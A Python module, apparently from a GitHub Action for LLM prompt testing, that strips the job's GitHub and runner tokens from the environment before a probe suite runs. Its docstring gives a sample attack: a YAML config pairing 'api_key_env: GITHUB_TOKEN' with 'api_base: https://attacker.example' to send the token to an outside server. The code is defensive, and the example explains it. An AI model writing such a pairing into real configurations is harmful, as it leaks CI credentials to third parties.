"""The job's own tokens leave the process environment before the suite is loaded.

canary.yaml and custom probes run inside this process. A YAML-only edit naming
``api_key_env: GITHUB_TOKEN`` next to ``api_base: https://attacker.example`` would otherwise
send the job's token to any server, and a YAML diff reads like data in review. So, once the
inputs are read (the token for the GitHub client is kept in :class:`ActionConfig`, out of its
``repr``), every variable holding a token of the runner is removed from the environment the
suite sees. The suite loader separately refuses ``api_key_env`` names of the runner
(:data:`promptcanary.core.probes.judge.RESERVED_ENV_PREFIXES`).

This does not make custom probe modules safe: Python code runs with the job's permissions and
can read anything the process can (docs/action.md, "What the suite can reach").
"""

from __future__ import annotations

from collections.abc import Mapping, MutableMapping

from promptcanary.core.probes.judge import RESERVED_ENV_PREFIXES
from promptcanary.errors import SECRET_ENV_HINTS, hold_secret

#: Token variables of a job outside the runner's prefixes (``gh`` reads ``GH_TOKEN``).
JOB_TOKEN_NAMES = frozenset({"GITHUB_TOKEN", "GH_TOKEN"})
#: Provider keys LiteLLM itself reads under those prefixes (GitHub Models: ``github/<model>``).
#: The step's author put them there for the model, like ``OPENAI_API_KEY``: they stay.
PROVIDER_KEY_NAMES = frozenset({"GITHUB_API_KEY"})


def is_job_token(name: str) -> bool:
    """True for ``GITHUB_TOKEN``, ``INPUT_GITHUB_TOKEN`` / ``INPUT_GITHUB-TOKEN``,
    ``ACTIONS_RUNTIME_TOKEN``, ``ACTIONS_ID_TOKEN_REQUEST_TOKEN`` and any other secret-looking
    variable under the runner's prefixes (``GITHUB_``, ``ACTIONS_``, ``INPUT_``, ``RUNNER_``)."""
    upper = name.upper()
    if upper in PROVIDER_KEY_NAMES:
        return False
    if upper in JOB_TOKEN_NAMES:
        return True
    return upper.startswith(RESERVED_ENV_PREFIXES) and any(h in upper for h in SECRET_ENV_HINTS)


def without_job_tokens(environ: Mapping[str, str]) -> dict[str, str]:
    """A copy of ``environ`` without the job's tokens."""
    return {k: v for k, v in environ.items() if not is_job_token(k)}


def withhold_job_tokens(environ: MutableMapping[str, str]) -> list[str]:
    """Remove the job's tokens from ``environ`` (the process environment), still redacting their
    values in every later message. Returns the names removed."""
    names = [k for k in environ if is_job_token(k)]
    for name in names:
        hold_secret(environ.pop(name))
    return sorted(names)
